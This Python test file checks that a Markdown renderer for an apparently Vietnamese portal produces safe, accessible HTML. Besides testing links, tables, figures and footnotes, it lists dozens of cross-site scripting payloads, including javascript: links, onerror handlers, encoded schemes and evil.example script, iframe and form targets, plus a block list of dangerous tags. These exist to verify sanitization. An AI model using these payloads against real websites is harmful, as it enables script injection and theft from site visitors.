"""Prose: what editors write becomes HTML that reads well and holds nothing harmful."""

import re
from collections import Counter
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from plugins.pictures import Picture
from plugins.prose import Prose, render
from regulation.links import To, resolve
from regulation.prose import fill, read
from tests.regulation.test_prose import texts
from tests.small import PORTAL, ROOT, Small, article, tree

WORDS = {"back_to_text": "Trở lại {}", "table": "Bảng"}

PICTURES = {
    "media/cau.jpg": Picture(
        (("/media/cau.1-400.webp", 400), ("/media/cau.1-800.webp", 800)), 800, 600
    ),
    "media/so-do.svg": Picture((("/media/so-do.2.svg", 640),), 640, 360),
}


def prose(markdown: str, base: str = "/xem-thu") -> Prose:
    def item_url(place: str) -> str:
        return f"{base}/{place.removesuffix('.md')}/"

    return render(
        read(markdown),
        folder="tin-tuc/2026",
        words=WORDS,
        item_url=item_url,
        file_url=lambda name: f"{base}/{name}",
        site_url=lambda path: base + path,
        picture=PICTURES.get,
    )


def html(markdown: str) -> str:
    return prose(markdown).html


def test_a_link_to_another_markdown_file_leads_to_that_items_page() -> None:
    assert 'href="/xem-thu/van-ban/2026/a/"' in html("[a](../../van-ban/2026/a.md)")
    assert 'href="/xem-thu/tin-tuc/2026/b/#phan-hai"' in html("[b](b.md#phan-hai)")


def test_links_to_files_pages_anchors_and_other_hosts_are_told_apart() -> None:
    assert 'href="/xem-thu/media/a.pdf"' in html("[a](../../media/a.pdf)")
    assert 'href="/xem-thu/lien-he/#ban-do"' in html("[a](/lien-he/#ban-do)")
    assert 'href="#phan-mot"' in html("[a](#phan-mot)")
    assert 'href="https://chinhphu.vn/a?b=c"' in html("[a](https://chinhphu.vn/a?b=c)")
    assert 'href="tel:0235000000"' in html("[a](tel:0235000000)")


def test_a_link_defined_below_leads_where_its_definition_says() -> None:
    assert 'href="/xem-thu/tin-tuc/2026/b/"' in html("[b][1]\n\n[1]: b.md")


@pytest.mark.parametrize("text", ["<ban@example.vn>", "[thư](mailto:ban@example.vn)"])
def test_a_mail_address_stays_a_mail_address(text: str) -> None:
    assert 'href="mailto:ban@example.vn"' in html(text)


def test_a_mail_address_between_angle_brackets_is_shown_as_written() -> None:
    assert html("Gửi <ban@example.vn>.") == (
        '<p>Gửi <a href="mailto:ban@example.vn">ban@example.vn</a>.</p>'
    )


def test_headings_begin_at_the_second_level_and_miss_none() -> None:
    shown = html("# Một\n\n## Hai\n\n# Ba\n\n###### Sáu")
    assert re.findall(r"<(h\d) id=\"([^\"]+)\">", shown) == [
        ("h2", "mot"),
        ("h3", "hai"),
        ("h2", "ba"),
        ("h3", "sau"),
    ]


def test_headings_written_from_the_third_level_move_up() -> None:
    assert re.findall(r"<(h\d)", html("### A\n\n#### B")) == ["h2", "h3"]


def test_second_level_headings_make_the_list_of_contents() -> None:
    made = prose("# Điều 1. Phạm vi\n\n## Nhỏ\n\n# Điều 2\n\n# Điều 2")
    assert [words for _, words in made.headings] == ["Điều 1. Phạm vi", "Điều 2", "Điều 2"]
    anchors = [anchor for anchor, _ in made.headings]
    assert len(set(anchors)) == 3
    assert all(f'id="{anchor}"' in made.html for anchor in anchors)
    assert anchors[0] == "dieu-1-pham-vi"


def test_a_heading_without_letters_has_an_anchor_all_the_same() -> None:
    assert prose("# …\n\n# …").headings[0][0].startswith("muc")


def test_footnotes_lead_there_and_back() -> None:
    shown = html("Chữ.[^1]\n\n[^1]: Chú thích có [liên kết](b.md).")
    ids = set(re.findall(r'id="([^"]+)"', shown))
    assert {*re.findall(r'href="#([^"]+)"', shown)} <= ids
    assert 'title="Trở lại 1"' in shown
    assert 'href="/xem-thu/tin-tuc/2026/b/"' in shown


TABLE = "| Việc | Số | Giữa |\n|---|--:|:-:|\n| Cầu | 12 | x |\n\n| A | B |\n|---|---|\n| 1 | 2 |\n"


def test_a_table_has_header_cells_and_no_style() -> None:
    shown = html(TABLE)
    assert '<th scope="col">Việc</th>' in shown
    assert '<th class="num" scope="col">Số</th>' in shown
    assert '<td class="num">12</td>' in shown
    assert '<td class="mid">x</td>' in shown
    assert "style" not in shown
    assert "align" not in shown


def test_a_table_scrolls_in_a_named_box_that_the_keyboard_reaches() -> None:
    boxes = re.findall(r"<div ([^>]*)><table>", html(TABLE))
    assert len(boxes) == 2
    for number, box in enumerate(boxes, start=1):
        assert {'role="region"', 'tabindex="0"', 'class="scroll"'} <= set(box.split())
        assert f'aria-label="Bảng {number}"' in box


def test_a_picture_alone_in_its_paragraph_with_a_title_is_a_figure() -> None:
    shown = html('![Cầu](../../media/cau.jpg "Cầu mới nhìn từ bờ Bắc")')
    assert shown.startswith("<figure>")
    assert "<figcaption>Cầu mới nhìn từ bờ Bắc</figcaption>" in shown
    assert 'title="' not in shown
    assert "<p>" not in shown


def test_a_picture_is_sent_prepared_with_its_sizes_and_below_the_fold_late() -> None:
    shown = html("![Cầu](../../media/cau.jpg)")
    both = "/xem-thu/media/cau.1-400.webp 400w, /xem-thu/media/cau.1-800.webp 800w"
    for part in (
        f'srcset="{both}"',
        'src="/xem-thu/media/cau.1-800.webp"',
        'width="800"',
        'height="600"',
        'loading="lazy"',
        'decoding="async"',
        'alt="Cầu"',
    ):
        assert part in shown, part
    assert "srcset" not in html("![Sơ đồ](../../media/so-do.svg)")


def test_a_picture_between_words_stays_in_its_paragraph() -> None:
    assert html("Xem ![Cầu](../../media/cau.jpg) này").startswith("<p>Xem <img")


def test_definitions_abbreviations_and_lists_are_kept() -> None:
    shown = html("UBND họp.\n\n*[UBND]: Ủy ban nhân dân\n\nTừ\n: Nghĩa\n\n3. ba\n4. bốn")
    assert '<abbr title="Ủy ban nhân dân">UBND</abbr>' in shown
    assert "<dt>Từ</dt>" in shown
    assert '<ol start="3">' in shown


def test_only_our_own_classes_pass() -> None:
    shown = html("Chữ\n{: .note .band .sample #rieng }")
    assert shown == '<p class="note" id="rieng">Chữ</p>'


def test_an_anchor_of_the_page_is_not_taken_by_the_text() -> None:
    templates = [*(ROOT / "theme/templates/items").glob("*.html")]
    templates += [ROOT / f"theme/templates/{name}.html" for name in ("base", "item", "macros")]
    taken = {a for t in templates for a in re.findall(r'\bid="([a-z0-9-]+)"', t.read_text("utf-8"))}
    assert {"main", "q", "so-lieu"} <= taken
    for anchor in taken:
        assert f'id="{anchor}"' not in html(f"# {anchor}\n\nChữ\n{{: #{anchor} }}")
    assert prose("# Số liệu").headings == (("so-lieu-muc", "Số liệu"),)


class _Seen(HTMLParser):
    """What a browser would find in the text: its tags, and what they could do."""

    BAD_TAGS = frozenset(
        "script style iframe object embed svg math form input button link meta base video audio "
        "template noscript textarea select title body html head frame frameset applet".split()
    )

    def __init__(self) -> None:
        super().__init__()
        self.harm: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in self.BAD_TAGS:
            self.harm.append(tag)
        for name, value in attrs:
            words = re.sub(r"[\s\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "xlink:href"):
                self.harm.append(f"{tag} {name}")
            address = name in ("href", "src", "srcset", "action", "data", "poster")
            if address and re.match(r"(?!https?:|mailto:|tel:)[a-z][a-z0-9+.-]*:", words):
                self.harm.append(f"{tag} {name}={value}")


def harm(markdown: str) -> list[str]:
    seen = _Seen()
    seen.feed(html(markdown))
    seen.close()
    return seen.harm


ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' OnErRoR = 'alert(1)'>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x](javascript:alert(1) "t")',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<object data=//evil.example></object><embed src=x>",
    "<form action=//evil.example><input name=p><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div onclick=alert(1) onmouseover=alert(1)>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    'Chữ\n{: onclick="alert(1)" style="x" }',
    '![x](a.jpg){: onerror="alert(1)" }',
    "# Tiêu đề {: onclick=alert(1) }",
    "<a href='//evil.example' target=_blank onclick=x>x</a>",
    "<video><source onerror=alert(1)></video>",
    "<ｓcript>alert(1)</ｓcript>",
    "<script\u200b>alert(1)</script>",
    "<img\u00a0src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "*[X]: <script>alert(1)</script>\n\nX",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[a](<javascript:alert(1)>)",
    '<x@y.z"onmouseover=alert(1)>',
    "<a@b.c?subject=%0d%0a&body=<script>alert(1)</script>>",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_what_would_run_or_reach_elsewhere_is_inert(text: str) -> None:
    assert harm(text) == []
    assert harm(f"Đoạn trước.\n\n{text}\n\n> {text}\n\n- {text}") == []


@given(
    st.lists(
        st.sampled_from(
            [
                *ATTACKS[:12],
                "<",
                ">",
                '"',
                "'",
                "`",
                "[",
                "](",
                ")",
                "\n\n",
                "{:",
                "}",
                "&#106;",
                "javascript:",
                "on",
                "error=",
                "<svg",
                "</p>",
                "ế",
                "\x00",
                "\u202e",
                "<a href=",
                "<!--",
            ]
        ),
        max_size=12,
    )
)
def test_no_mixture_of_attacks_makes_harm(parts: list[str]) -> None:
    assert harm("".join(parts)) == []


class _Links(HTMLParser):
    """Every address on a page, in its order."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [value or "" for name, value in attrs if name in ("href", "src")]


@given(texts)
def test_every_link_of_a_page_was_seen_by_the_check(markdown: str) -> None:
    text = read(markdown)
    page = _Links()
    page.feed(fill(text, lambda link: link.target, lambda link: {"src": link.target}, WORDS))
    page.close()
    shown = [address for address in page.found if not address.startswith("#fnref")]
    targets = Counter(link.target for link in text.links)
    if not text.faults:  # else there is no page
        safe = [t for t in targets.elements() if resolve(t, "tin-tuc/2026").to is not To.NOWHERE]
        assert Counter(shown) >= Counter(t for t in safe if not t.startswith("#fnref"))
    assert Counter(shown) <= targets


@given(texts)
def test_any_text_at_all_becomes_html(text: str) -> None:
    prose(text)


def test_every_fault_of_a_text_stops_a_build_in_one_line_each(house: Small) -> None:
    before = tree(house.build())
    body = "<b>\n\n[a]( khac.md ) [b](#x) ![](../../media/cau.jpg)\n\n> - [c][d]\n\n[^1]: chữ\n"
    house.write("tin-tuc/2026/hong.md", article("hong", body=body))
    house.write(
        "tin-tuc/2026/sau.md",
        article("sau", body="\n".join("    " * i + "- x" for i in range(300))),
    )
    done = house.cong("build", "--portal", PORTAL)
    assert done.returncode == 1
    assert "Traceback" not in done.stdout + done.stderr
    told = [line for line in (done.stdout + done.stderr).splitlines() if "lỗi:" in line]
    assert len([line for line in told if "/hong.md:" in line]) == 6
    assert len([line for line in told if "/sau.md:" in line]) == 1
    assert tree(house.output) == before


def test_two_texts_on_one_page_have_each_name_once() -> None:
    text = "# Mở đầu\n\nChữ.[^1] [x](#mo-dau)\n\n[^1]: A"
    parts = (read(text), read(text, 3, "transcript--"))
    shown = "".join(
        fill(part, lambda link: link.target, lambda link: {"src": link.target}, WORDS)
        for part in parts
    )
    names = re.findall(r' id="([^"]+)"', shown)
    assert len(names) == len(set(names)) == 6
    assert {*re.findall(r'href="#([^"]+)"', shown)} <= set(names)
